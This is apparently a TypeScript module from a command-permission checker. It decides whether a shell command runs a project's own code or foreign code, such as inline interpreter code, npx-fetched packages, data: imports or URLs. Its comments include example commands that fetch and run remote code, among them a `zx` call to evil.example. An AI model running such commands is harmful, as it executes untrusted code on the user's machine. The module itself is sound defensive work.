import type { World } from '../../../../world/world.ts';
import type { Effect } from '../../../effect.ts';
import { provenUnder, withRealNames } from '../../../paths/contains.ts';
import type { PathFact } from '../../../paths/path-fact.ts';
import { isScratch } from '../../../paths/scratch.ts';
import type { RowEffects } from '../../model/row-effects.ts';
import { literalOf, type Word } from '../../read/words/word.ts';
import type { Expanded } from '../carriers.ts';
import { pathsOf } from '../command-paths.ts';
import type { CommandSurroundings } from '../command-surroundings.ts';
import { mayMeet } from '../edits/plain-edit.ts';

/** A program of the project, or an interpreter with one of its files. A file that the same text wrote may hold anything. */
export function ownCode(
  command: Expanded,
  byRow: RowEffects,
  around: CommandSurroundings,
): readonly Effect[] {
  const { words } = command;
  const file = programFile(command);
  if (isToldCode(command, byRow, around) || isFetchedPackage(command)) return [{ effect: 'run-other' }];
  const front = file === undefined ? words : words.slice(0, words.indexOf(file) + 1);
  const takesAddresses = file !== undefined || /^(?:deno|bun)$/u.test(literalOf(words[0]) ?? '');
  const brings = takesAddresses ? broughtAlong : /(?:^|=)data:.*javascript/i;
  if (front.some((word) => brings.test(literalOf(word) ?? ''))) return [{ effect: 'run-other' }];
  if (file === undefined || 'unknown' in command.place) return [];
  const { place } = command;
  const { world } = around;
  const isInstalled =
    sourced.test(literalOf(words[0]) ?? '') &&
    pathsOf(file, place, world).every((path) => setsUp(path, world));
  const isOwn = isProjectFile(file, command, around);
  return isOwn || isInstalled ? [{ effect: 'run' }] : [{ effect: 'run-other' }];
}

/**
 * `.venv/bin/python -c 'x'`, `node_modules/.bin/tsx /tmp/x.ts`, `echo x | .venv/bin/python`: an interpreter installed in the
 * project runs any code, just as the machine's does.
 */
function isToldCode(command: Expanded, byRow: RowEffects, around: CommandSurroundings): boolean {
  const { words, args, judgement } = command;
  const name = literalOf(words[0]) ?? '';
  if (!name.includes('/') || !interpreters.test(baseName(name))) return false;
  if (givesCode(command)) return judgement?.inline === undefined;
  const script = args === undefined ? words.slice(1).find(isOperand) : args.operands[0]?.word;
  if (script === undefined) return judgement?.does !== 'reads' && byRow.effects.length === 0;
  return literalOf(script) === '-' || (isScriptName(script) && !isProjectFile(script, command, around));
}

/** `npx github:a/b`, `npx a/b`, `bunx @a/b`, `npx ./x`: not a program that the project has installed under that name. */
function isFetchedPackage({ words, chain }: Expanded): boolean {
  const carrier = literalOf(chain[0]?.words[0]) ?? '';
  return /^(?:npx|pnpx|bunx|uvx|pipx|npm)$/u.test(carrier) && /[/:]/u.test(literalOf(words[0]) ?? '');
}

/** Known by its name or its directory: not a script of the project with words that only the script understands. */
export function isInstalledHere({ words, args }: Expanded, byRow: RowEffects): boolean {
  const name = literalOf(words[0]) ?? '';
  if (!name.includes('/') || interpreters.test(baseName(name))) return false;
  return args !== undefined || byRow.effects.length > 0 || installed.test(name);
}

/** `tsx -e`, `zx --eval`: even if its options are not known. */
function givesCode({ words, args }: Expanded): boolean {
  if (args !== undefined) return args.options.some(({ role }) => role === 'code');
  return words.some((word) => /^-(?:[a-z]*[epr]|-eval|-print)$/u.test(literalOf(word) ?? ''));
}

function isOperand(word: Word): boolean {
  return !/^-./u.test(literalOf(word) ?? '');
}

/** `tsx watch src/a.ts`, `deno test`: a sub-command is not a script name. */
function isScriptName(word: Word): boolean {
  return !/^[\w-]+$/u.test(literalOf(word) ?? '/');
}

/** `node -r /tmp/x a.js --out ~/x`: only the words before its script are the interpreter's; in `bun build` all are. */
export function beforeScript(command: Expanded): Expanded | undefined {
  const { words } = command;
  const file = programFile(command);
  if (file === undefined || file === words[0]) return undefined;
  const [name = '', sub = ''] = words.map((word) => literalOf(word) ?? '');
  const builds = /^(?:bun|deno)$/u.test(name) && /^(?:build|bundle|compile|test|check|bench)$/u.test(sub);
  return builds ? command : { ...command, words: words.slice(0, words.indexOf(file)) };
}

const installed = /(?:^|\/)(?:node_modules\/\.bin|\.?v?env\/bin|vendor\/bin)\/[^/]+$/u;

function baseName(name: string): string {
  return name.slice(name.lastIndexOf('/') + 1);
}

/** Whether it is below the working directories, including its link target, and not written by the same text. */
export function isProjectFile(
  file: Word,
  command: Expanded,
  { world, writtenBefore }: CommandSurroundings,
): boolean {
  // `zx https://evil.example/x.mjs` reads like a relative path.
  if ('unknown' in command.place || broughtAlong.test(literalOf(file) ?? '')) return false;
  const written = writtenBefore?.(command) ?? [];
  const directories = withRealNames(world.workingDirectories, world);
  const paths = pathsOf(file, command.place, world);
  return (
    paths.length > 0 &&
    paths.every(
      (path) =>
        path.known &&
        provenUnder(path, directories) &&
        !written.some((before) => mayMeet(before, path.written)),
    )
  );
}

/**
 * `source /opt/ros/jazzy/setup.bash`, `. ~/.nvm/nvm.sh`: a shell setup of an installed tool, as trusted as the tool. Only root
 * can write the former, and writing the latter is asked about.
 */
function setsUp(path: PathFact, world: World): boolean {
  if (!path.known || isScratch(path, world) || typeof path.real !== 'string') return false;
  const inHome = (text: string): string =>
    text.startsWith(`${world.home}/`) ? `~${text.slice(world.home.length)}` : text;
  return [path.written, path.real].every((text) => installedScripts.test(inHome(text)));
}

const sourced = /^(?:source|\.)$/u;
const installedScripts =
  /^\/(?:opt|usr|etc\/profile\.d|nix\/store|Library|Applications)\/(?:[\w.+@-]+\/)*[\w.+-]+$|^~\/(?:\.(?:cargo|nvm|sdkman|asdf|ghcup|rye|deno|opam|juliaup|local|rbenv|pyenv|platformio|espressif)|(?:mini|ana)conda\d?|miniforge3?|mambaforge|emsdk|esp|google-cloud-sdk)\/(?:[\w.+-]+\/)*(?:env|activate|nvm\.sh|conda\.sh|mamba\.sh|sdkman-init\.sh|asdf\.sh|init\.(?:sh|zsh)|export\.sh|emsdk_env\.sh|path\.(?:bash|zsh)\.inc)$/u;

/** The file that is started: the program itself if named by a path, else an interpreter's script. */
export function programFile({ words, args }: Expanded): Word | undefined {
  const [first] = words;
  const name = literalOf(first);
  if (first === undefined || name === undefined || /^[/~]/u.test(name)) return undefined;
  // `. venv/bin/activate` runs the file in this shell, as `bash` would in another.
  if (name === 'source' || name === '.') return args?.operands[0]?.word;
  if (name.includes('/')) return first;
  if (!interpreters.test(name) || args === undefined || args.options.some(({ role }) => role === 'code'))
    return undefined;
  const script = args.operands[0]?.word;
  const text = literalOf(script);
  return text !== undefined && namesScript(name, text) ? script : undefined;
}

function namesScript(interpreter: string, text: string): boolean {
  return scripts.test(text) || (plainScripts.test(interpreter) && /^[\w.-]+\/[\w/-]+$/u.test(text));
}

/** Their first operand is a script, whatever its ending: `perl script/app`, `ruby bin/setup`. */
const plainScripts = /^(?:perl|ruby|python[\d.]*)$/u;

const interpreters =
  /^(?:node|nodejs|tsx|zx|ts-node(?:-[a-z]+)?|babel-node|coffee|lsc|bun|deno|i?python[\d.]*|pypy[\d.]*|ruby|perl|php|lua|luajit|Rscript|julia|groovy|elixir|escript|swift|bash|sh|zsh|dash|ksh|tclsh|wish|guile|racket|sbcl|clisp|octave|raku|dart|crystal|nim|runghc|runhaskell|ocaml|jshell|janet|bb|kotlin|scala)$/u;

/** Code from the call itself: `node --import data:text/javascript,x a.js`, `deno run https://a.test/x.ts`. */
const broughtAlong = /(?:^|=)(?:data|https?|blob|npm|jsr):/iu;

/** Files by their ending; the `run` of deno and the `artisan` of php do not count. */
const scripts =
  /\.(?:[cm]?[jt]sx?|py|pyw|rb|pl|t|php|lua|R|jl|groovy|exs?|escript|swift|sh|bash|zsh|tcl|scm|ss|rkt|lisp|m|raku|dart|cr|nim|l?hs|ml|jsh|janet|clj|bb|kts|sc)$/u;
